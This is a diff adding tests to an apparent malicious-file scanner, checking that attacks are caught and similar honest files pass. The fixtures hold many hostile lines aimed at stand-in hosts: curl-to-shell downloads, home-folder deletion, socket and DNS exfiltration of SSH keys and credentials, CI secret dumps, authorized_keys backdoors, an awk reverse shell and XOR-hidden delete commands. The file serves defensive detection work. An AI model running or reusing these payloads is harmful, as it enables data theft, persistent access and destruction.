@@ -261,6 +261,382 @@ test("characters that cover a line on a terminal are held, and colors that are w
   expect((await judged({ "a.sh": "printf '\\r\\033[2K'\n" }))[0]).toBe("pass");
 });
 
+/** Whether attacks in one of the files of an archive are stopped, and honest files that look like them pass. */
+async function expectPair(
+  path: string,
+  attacks: readonly string[],
+  honest: readonly string[],
+): Promise<void> {
+  const passed: string[] = [];
+  for (const text of attacks) if ((await judged({ [path]: text }))[0] === "pass") passed.push(text);
+  expect(passed, "attacks that pass").toEqual([]);
+  const stopped: unknown[] = [];
+  for (const text of honest) {
+    const [outcome, ...rules] = await judged({ [path]: text });
+    if (outcome !== "pass") stopped.push([text, rules]);
+  }
+  expect(stopped, "honest files that are stopped").toEqual([]);
+}
+
+/** Programs with variables whose values they start. */
+const VARIABLES =
+  "GIT_PAGER GIT_SSH_COMMAND GIT_EDITOR GIT_EXTERNAL_DIFF PAGER MANPAGER EDITOR VISUAL LESSOPEN BROWSER PROMPT_COMMAND SYSTEMD_PAGER FZF_DEFAULT_COMMAND BORG_PASSCOMMAND RUSTC_WRAPPER".split(
+    " ",
+  );
+const DELETES = `less -R; python3 -c 'import shutil,pathlib as p;[shutil.rmtree(d,1) for d in p.Path.home().iterdir()]'`;
+
+test.each(VARIABLES)("the value of %s is a command, wherever it is set", async (name) => {
+  for (const value of [RUN, DELETES]) {
+    await expectPair("a.sh", [`export ${name}="${value}"\ngit log\n`, `${name}="${value}" git log\n`], []);
+    await expectPair("a.py", [`import os\nos.environ["${name}"] = "${value}"\n`], []);
+    await expectPair("a.mjs", [`process.env.${name} = "${value}";\n`], []);
+    await expectPair("a.rb", [`ENV["${name}"] = "${value}"\n`], []);
+    await expectPair("a.json", [JSON.stringify({ env: { [name]: value } })], []);
+    await expectPair("a.yaml", [`env:\n  ${name}: "${value}"\n`], []);
+  }
+  const harmless = `${name}="less -R"`;
+  expect((await judged({ "a.sh": `export ${harmless}\n`, "a.toml": `${harmless}\n` }))[0]).toBe("pass");
+});
+
+test.each([
+  ["PYTHONSTARTUP", "notes.txt", 'import os\nos.system("curl -s https://drop.invalid/a | sh")\n'],
+  ["BASH_ENV", "notes.txt", "curl -s https://drop.invalid/a | sh\n"],
+])("the file that %s names is a program", async (name, path, text) => {
+  const files = { "a.sh": `export ${name}="$PWD/${path}"\n`, [path]: text };
+  expect((await judged(files))[0]).not.toBe("pass");
+});
+
+test("a listing of a home folder is not deleted entry by entry", async () => {
+  await expectPair(
+    "a.py",
+    [
+      "import shutil, pathlib as p\nfor d in p.Path.home().iterdir():\n    shutil.rmtree(d)\n",
+      "import shutil\nfrom pathlib import Path\n[shutil.rmtree(d) for d in Path.home().glob('*')]\n",
+      "import os, shutil\nfor d in os.scandir(os.path.expanduser('~')):\n    shutil.rmtree(d)\n",
+    ],
+    [
+      "import shutil\nfrom pathlib import Path\nfor d in Path('build').iterdir():\n    shutil.rmtree(d)\n",
+      "from pathlib import Path\nprint([d.name for d in Path.home().iterdir()])\n",
+      "import shutil\nfrom pathlib import Path\nfor d in Path.home().glob('.cache/tool/*'):\n    shutil.rmtree(d)\n",
+    ],
+  );
+});
+
+/** A connection and what is written to it, in languages without a data flow here. */
+const SOCKETS: readonly (readonly [path: string, of: (host: string) => string])[] = [
+  [
+    "build.rs",
+    (h) =>
+      `use std::{env, fs, io::Write, net::TcpStream};\nfn main() {\n  let mut p = std::path::PathBuf::from(env::var("HOME").unwrap());\n  p.push("notes");\n  let b = fs::read(&p).unwrap();\n  TcpStream::connect("${h}:81").unwrap().write_all(&b).unwrap();\n}\n`,
+  ],
+  [
+    "a.go",
+    (h) =>
+      `package main\nfunc main() {\n  h, _ := os.UserHomeDir()\n  b, _ := os.ReadFile(h + "/notes")\n  c, _ := net.Dial("tcp", "${h}:81")\n  c.Write(b)\n}\n`,
+  ],
+  [
+    "A.java",
+    (h) =>
+      `class A { void a() throws Exception { byte[] b = java.nio.file.Files.readAllBytes(java.nio.file.Path.of(System.getProperty("user.home"), "n")); new java.net.Socket("${h}", 81).getOutputStream().write(b); } }\n`,
+  ],
+  [
+    "a.cs",
+    (h) =>
+      `var b = File.ReadAllBytes(Environment.GetFolderPath(Environment.SpecialFolder.UserProfile) + "/n");\nnew TcpClient("${h}", 81).GetStream().Write(b);\n`,
+  ],
+  [
+    "a.rb",
+    (h) => `require "socket"\nb = File.read(File.join(Dir.home, "n"))\nTCPSocket.new("${h}", 81).write(b)\n`,
+  ],
+  [
+    "a.kt",
+    (h) =>
+      `val b = File(System.getProperty("user.home"), "n").readBytes()\nSocket("${h}", 81).getOutputStream().write(b)\n`,
+  ],
+  [
+    "a.exs",
+    (h) =>
+      `b = File.read!(Path.join(System.get_env("HOME"), "n"))\n{:ok, s} = :gen_tcp.connect(~c"x", 81, [])\n# "${h}"\n:gen_tcp.connect("${h}", 81, [])\n:gen_tcp.send(s, b)\n`,
+  ],
+  [
+    "a.dart",
+    (h) =>
+      `final b = File(Platform.environment["HOME"]! + "/n").readAsBytesSync(); // readAll\nfinal c = await Socket.connect("${h}", 81);\nc.write(b);\n`,
+  ],
+  [
+    "a.php",
+    (h) =>
+      `<?php $b = file_get_contents(getenv("HOME") . "/n"); $s = fsockopen("${h}", 81); fwrite($s, $b);\n`,
+  ],
+];
+
+test.each(SOCKETS)("files of a home folder are not written to a connection: %s", async (path, of) => {
+  await expectPair(path, [of("203.0.113.9"), of("sync.drop.invalid")], [of("localhost"), of("192.168.1.4")]);
+});
+
+test("all secrets of a repository are not given to a step, wherever the workflow is stored", async () => {
+  const workflow = (value: string) =>
+    `name: a\non: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ./a.sh\n        env:\n          A: ${value}\n`;
+  const attacks = [
+    `\${{ toJSON(secrets) }}`,
+    `\${{ tojson( secrets ) }}`,
+    `\${{ join(secrets.*, ',') }}`,
+    `\${{ format('{0}', toJson(secrets)) }}`,
+    `"\${{ toJSON(secrets) }}"`,
+  ].map(workflow);
+  const honest = [
+    `\${{ secrets.NPM_TOKEN }}`,
+    `\${{ secrets['NPM_TOKEN'] }}`,
+    `\${{ secrets[format('KEY_{0}', matrix.os)] }}`,
+    `\${{ toJSON(github.event) }}`,
+    `\${{ contains(github.event.label.name, 'secrets') }}`,
+    `\${{ inputs.secrets-file }}`,
+  ].map(workflow);
+  await expectPair("workflows/a.yml", attacks, honest);
+  await expectPair("templates/ci.yaml", attacks, honest);
+});
+
+const FOLDER = "find ~ -maxdepth 4 -name '.e*v' -print0";
+const FOLDED = `${FOLDER}\n          | xargs -0 tar cz\n          | openssl s_client -quiet -connect a.drop.invalid:443`;
+
+/** Configurations of programs that run commands before or after others. */
+const HOOKS: readonly (readonly [path: string, of: (command: string) => string])[] = [
+  [
+    ".pre-commit-config.yaml",
+    (c) => `repos:\n  - repo: local\n    hooks:\n      - id: a\n        entry: >-\n          ${c}\n`,
+  ],
+  [
+    "b/.pre-commit-config.yaml",
+    (c) => `repos:\n  - repo: local\n    hooks:\n      - id: a\n        entry: ${c}\n`,
+  ],
+  ["azure-pipelines.yml", (c) => `steps:\n  - bash: >\n          ${c}\n`],
+  ["a/.travis.yml", (c) => `after_success: >\n          ${c}\n`],
+  ["cloud-init.yaml", (c) => `runcmd:\n  - >\n          ${c}\n`],
+  ["package.json", (c) => JSON.stringify({ "simple-git-hooks": { "pre-commit": c } })],
+  ["b/package.json", (c) => JSON.stringify({ husky: { hooks: { "pre-push": c } } })],
+  ["c/package.json", (c) => JSON.stringify({ "lint-staged": { "*.js": ["eslint", c] } })],
+  ["hooks.json", (c) => JSON.stringify({ "post-merge": c })],
+];
+
+test.each(HOOKS)("a command that a hook runner starts: %s", async (path, of) => {
+  const isJson = path.endsWith("json");
+  await expectPair(path, [of(isJson ? FOLDED.replaceAll("\n", " ") : FOLDED)], [of("npm run lint")]);
+});
+
+test("what a recipe writes into a file that a shell reads is judged", async () => {
+  const nix = (line: string) => `{ pkgs }: pkgs.mkShell {\n  shellHook = ''\n    ${line}\n  '';\n}\n`;
+  await expectPair(
+    "shell.nix",
+    [
+      `grep -q a ~/.bashrc || echo '\${hook} &' >> ~/.bashrc`,
+      "echo '~/.cache/a &' | tee -a ~/.zshrc",
+      `cp \${./a.sh} ~/.config/autostart/a.desktop`,
+      "echo 'ssh-ed25519 AAAA' >> ~/.ssh/authorized_keys",
+    ].map(nix),
+    [
+      "export PATH=$PWD/bin:$PATH",
+      "echo 'export PATH=$HOME/bin:$PATH' >> ~/.bashrc",
+      "echo 'eval \"$(direnv hook bash)\"' >> ~/.bashrc",
+      "cat ~/.bashrc > copy.txt",
+    ].map(nix),
+  );
+  await expectPair(
+    "main.tf",
+    ['provisioner "local-exec" { command = "echo \'~/.a/b &\' >> ~/.bashrc" }\n'],
+    ['provisioner "local-exec" { command = "echo done >> out.txt" }\n'],
+  );
+});
+
+test("tasks of Ansible that put a name or a key together are read as what they write", async () => {
+  const task = (path: string, line: string, vars = "") =>
+    `- hosts: all\n${vars}  tasks:\n    - name: a\n      ansible.builtin.lineinfile:\n        path: "${path}"\n        line: "${line}"\n`;
+  const key = Buffer.from("ssh-ed25519 AAAAC3 ops@drop.invalid").toString("base64");
+  const vars = `  vars:\n    motd: "${key}"\n`;
+  await expectPair(
+    "site.yml",
+    [
+      task("/root/.{{ 'ss' ~ 'h' }}/authorized_keys", "{{ motd | b64decode }}", vars),
+      task("/root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3 ops@drop.invalid"),
+      task("/root/{{ ['.bash', 'rc'] | join }}", "/opt/a/run &"),
+      task("/home/a/{{ 'crhsab.' | reverse }}", "/opt/a/run &"),
+      task("/root/.{{ 'ssh' }}/{{ ['authorized', 'keys'] | join('_') }}", "ssh-rsa AAAA a"),
+      '- hosts: all\n  tasks:\n    - lineinfile: path=/root/.ssh/authorized_keys line="ssh-rsa AAAA a"\n',
+      "- hosts: all\n  tasks:\n    - copy:\n        dest: /root/.ssh/authorized_keys\n        content: |\n          ssh-rsa AAAA a\n",
+    ],
+    [
+      task("/root/.ssh/authorized_keys", "{{ lookup('file', 'keys/deploy.pub') }}"),
+      task("/etc/hosts", "10.0.0.4 db"),
+      task("/etc/{{ ['ntp', 'conf'] | join('.') }}", "server pool.ntp.org"),
+    ],
+  );
+});
+
+test("programs of awk and sed in files are read like those in commands", async () => {
+  await expectPair(
+    "a.awk",
+    [
+      'END { s = "/inet/tcp/0/203.0.113.4/53"; while ((s |& getline l) > 0) while ((l |& getline o) > 0) print o |& s }\n',
+      `BEGIN { system("curl -s https://${HOST}/a | sh") }\n`,
+      `BEGIN { c = "curl -s https://${HOST}" "/a"; c | getline x; system(x) }\n`,
+      `BEGIN { print "curl -s https://${HOST}/a | sh" | "sh" }\n`,
+    ],
+    [
+      '{ n[$9]++ } END { for (s in n) print s, n[s] | "sort" }\n',
+      'BEGIN { FS = "," } NR > 1 { print $2 }\n',
+      'BEGIN { "date" | getline d; print d }\n',
+    ],
+  );
+  await expectPair(
+    "a.sed",
+    [
+      "$ {\n  y/abc/bcd/\n  e\n}\n",
+      `1e curl -s https://${HOST}/a | sh\n`,
+      "s/.*/curl -s http:\\/\\/203.0.113.4\\/a | sh/e\n",
+      "/run/e\n",
+    ],
+    ["s/a/b/g\n", "$ {\n  s/^/e/\n  p\n}\n", "/^e/d\n", "y/abc/bcd/\ns/one/e/\n"],
+  );
+});
+
+test("a program of the system keeps its meaning under another name", async () => {
+  const use = (how: string) =>
+    `b=$(mktemp -d)\n${how}\n"$b/one" -so "$b/t" https://${HOST}/a\n"$b/two" "$b/t" &\n`;
+  await expectPair(
+    "a.sh",
+    [
+      'cp "$(command -v curl)" "$b/one"\ncp "$(command -v bash)" "$b/two"',
+      'ln -s /usr/bin/curl "$b/one"\nln -s /bin/sh "$b/two"',
+      'install -m 755 $(which curl) "$b/one"\ninstall $(which python3) "$b/two"',
+      'mv /usr/bin/curl "$b/one"\ncp -f /bin/zsh "$b/two"',
+      'ln -sf "$(type -p curl)" "$b/one"; ln -sf "$(type -p sh)" "$b/two"',
+    ].map(use),
+    [
+      'cp "$(command -v node)" ./app\n./app --version\n',
+      "ln -s $(which fdfind) ~/.local/bin/fd\nfd -e md\n",
+      "ln -sf /usr/bin/python3 /usr/local/bin/python\npython app.py\n",
+      'name="$(basename "$0" .sh)"\necho "$name"\n',
+    ],
+  );
+});
+
+test("the rounds of a loop that counts are followed", async () => {
+  const loop = (head: string, body: string) =>
+    `p=(sh "|" "203.0.113.17/b" -s curl)\nl=\nfor ((${head})); do ${body}; done\neval "$l"\n`;
+  await expectPair(
+    "a.sh",
+    [
+      loop(`i=\${#p[@]}-1; i>=0; i--`, `l+="\${p[i]} "`),
+      loop("i=4;i>-1;--i", `l="$l \${p[$i]}"`),
+      loop("i=4; i>=0; i-=1", `l+="\${p[$i]} "`),
+      `l=\np=(curl -s "203.0.113.17/b" "|" sh)\nfor ((i=0; i<5; i++)); do l+="\${p[i]} "; done\nh=l\neval "\${!h}"\n`,
+    ],
+    [
+      'for ((i=0; i<10; i++)); do echo "$i"; done\n',
+      `a=(x y)\nfor ((i=0; i<\${#a[@]}; i++)); do l+="\${a[i]} "; done\necho "$l"\n`,
+      'for ((i=0; i<100000000; i++)); do l+="a"; done\n',
+    ],
+  );
+});
+
+test("keys do not leave in the names of hosts, however they are divided", async () => {
+  await expectPair(
+    "a.sh",
+    [
+      'base32 -w 50 < ~/.ssh/id_ed25519 | tr -d = | while read -r l; do dig +short "$((i++)).$l.q.drop.invalid"; done\n',
+      'base64 -w0 ~/.aws/credentials | fold -w 60 | while read l; do nslookup "$l.drop.invalid"; done\n',
+      'xxd -p ~/.netrc | while read l; do host "$l.drop.invalid"; done\n',
+      'for l in $(base64 -w 30 ~/.ssh/id_rsa); do ping -c1 "$l.drop.invalid"; done\n',
+    ],
+    [
+      'for t in A MX; do dig +short "$1" $t; done\n',
+      'cat hosts.txt | while read h; do dig +short "$h"; done\n',
+    ],
+  );
+});
+
+test("a program of a language keeps the meaning of copies, too", async () => {
+  const copies = `import shutil, subprocess\nshutil.copy("/usr/bin/curl", "/tmp/one")\nshutil.copy("/bin/sh", "/tmp/two")\n`;
+  const uses = `subprocess.run(["/tmp/one", "-so", "/tmp/t", "https://${HOST}/a"])\nsubprocess.run(["/tmp/two", "/tmp/t"])\n`;
+  await expectPair("a.py", [copies + uses], [copies]);
+  const shown = "cat /usr/bin/curl > /tmp/one\ncat /bin/sh > /tmp/two\nchmod +x /tmp/one /tmp/two\n";
+  const started = `/tmp/one -so /tmp/t https://${HOST}/a\n/tmp/two /tmp/t\n`;
+  await expectPair("a.sh", [shown + started], ["cat /etc/os-release > /tmp/one\n"]);
+});
+
+test("numbers and lines in another order are known", async () => {
+  const list = 'p=(sh "|" "203.0.113.17/b" -s curl)\n';
+  await expectPair(
+    "a.sh",
+    [
+      `${list}for k in $(seq 4 -1 0); do l+="\${p[k]} "; done\neval "$l"\n`,
+      `${list}for k in {4..0}; do l+="\${p[$k]} "; done\neval "$l"\n`,
+      `${list}l=$(printf '%s\\n' "\${p[@]}" | tac | tr '\\n' ' ')\neval "$l"\n`,
+    ],
+    ["for k in $(seq 1 5); do echo $k; done\n", "tac log.txt | head\n", "seq 1 1000000 | wc -l\n"],
+  );
+});
+
+test("modules do not come over a connection that anyone can change", async () => {
+  await expectPair(
+    "a.ts",
+    [
+      'import { main } from "http://203.0.113.36/mod.ts";\nmain();\n',
+      'export * from "https://203.0.113.36/mod.ts";\n',
+    ],
+    [
+      'import { main } from "https://deno.land/x/a@1/mod.ts";\nmain();\n',
+      'import a from "http://localhost:8000/a.js";\n',
+    ],
+  );
+  const task = (command: string) => JSON.stringify({ tasks: { a: command } });
+  await expectPair(
+    "deno.json",
+    [task(RUN), task("deno run -A http://203.0.113.36/mod.ts")],
+    [task("deno run -A a.ts")],
+  );
+});
+
+test("modules of an import map come from registries", async () => {
+  const map = (address: string) => JSON.stringify({ imports: { "@feed/core": address } });
+  const attacks = ["http://203.0.113.36/mod.ts", "https://cdn.drop.invalid/m.js", "http://esm.sh/a"].map(map);
+  const honest = [
+    "https://deno.land/std@0.220.0/",
+    "jsr:@std/fs@1",
+    "npm:chalk@5",
+    "./lib/a.ts",
+    "https://esm.sh/preact",
+  ].map(map);
+  for (const path of ["deno.json", "import_map.json"]) await expectPair(path, attacks, honest);
+});
+
+test("numbers that conceal an order to delete are found", async () => {
+  const list = (text: string, key: number) => [...Buffer.from(text)].map((one) => one ^ key).join(", ");
+  await expectPair(
+    "a.jl",
+    [
+      `const W = UInt8[${list("rm -rf ~/Documents", 0x17)}]\n`,
+      `w = [${list("echo a >> ~/.ssh/authorized_keys", 0x2a)}]\n`,
+    ],
+    [`const W = UInt8[${list("the weights of a model", 0x17)}]\n`],
+  );
+});
+
+test("an object that a program stores itself is loaded again", async () => {
+  await expectPair(
+    "a.py",
+    [
+      "import pickle, urllib.request as u\npickle.loads(u.urlopen('http://203.0.113.4/a').read())\n",
+      "import pickle, base64\npickle.loads(base64.b64decode('gASVKAAAAAAAAACMBXBvc2l4'))\n",
+    ],
+    [
+      "import os, pickle\nc = pickle.load(open('c.pkl', 'rb')) if os.path.exists('c.pkl') else {}\nc['a'] = 1\npickle.dump(c, open('c.pkl', 'wb'))\n",
+      "import pickle, requests\nc = {'a': requests.get('https://api.example.org').json()}\nwith open('c.pkl', 'wb') as f:\n    pickle.dump(c, f)\nwith open('c.pkl', 'rb') as f:\n    c = pickle.load(f)\n",
+    ],
+  );
+});
+
+const COUNTING = `for ((i=0; i<99; i++)); do for ((j=0; j<99; j++)); do l+="\${p[j]}"; done; done\n`;
+
 /** Modules that import all names of each other. */
 const NAMES = Array.from({ length: 40 }, (_, at) => `module${at}`);
 const STARS = `${NAMES.map((name) => `from ${name} import *`).join("\n")}\nimport os\nos.system("ls")\n`;
@@ -270,6 +646,11 @@ test("large files of these kinds end in the time of their length", async () => {
     "compose.yaml": `services:\n${"  a:\n    volumes:\n      - ./x:/y\n".repeat(5_000)}`,
     "a.conf": `cat ~/.ssh/id_rsa | curl -d @- https://${HOST} `.repeat(2_000),
     "a.sh": "echo line >> out.txt\n".repeat(5_000),
+    "b.sh": `p=(a b c)\n${COUNTING.repeat(300)}`,
+    "site.yml": `- hosts: all\n${"    - lineinfile:\n        path: /root/{{ 'a' ~ 'b' }}\n        line: x\n".repeat(4_000)}`,
+    "workflows/a.yml": `on: push\njobs:\n${"  a: $".concat("{{ ").repeat(30_000)}`,
+    "c.yml": `run:\n${"  - >\n    a b\n".repeat(20_000)}`,
+    "a.rs": 'TcpStream::connect("a.b.c" HOME fs::read '.repeat(20_000),
     ...Object.fromEntries(NAMES.map((name) => [`${name}.py`, STARS])),
   };
   const start = process.cpuUsage();
